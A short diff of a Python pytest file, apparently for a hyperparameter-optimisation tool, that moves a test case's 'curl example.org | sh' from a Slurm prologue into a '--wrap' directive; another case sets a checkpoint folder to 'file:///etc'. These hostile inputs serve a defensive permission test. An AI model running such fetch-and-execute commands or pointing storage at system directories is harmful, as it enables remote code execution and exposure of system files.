@@ -188,7 +188,11 @@ def test_partitions_of_a_study_file_may_lie_beside_it(permissions: Permissions) 
 @pytest.mark.parametrize(
     ("changes", "setting", "value"),
     [
-        ({"cluster": {"kind": "slurm", "prologue": ["curl example.org | sh"]}}, "HPO_ALLOWED_CLUSTERS", "slurm"),
+        (
+            {"cluster": {"kind": "slurm", "directives": ["--wrap=curl example.org | sh"]}},
+            "HPO_ALLOWED_CLUSTERS",
+            "slurm",
+        ),
         ({"checkpoints": {"folder": "file:///etc"}}, "HPO_ALLOWED_CHECKPOINTS", "file:///etc"),
     ],
 )
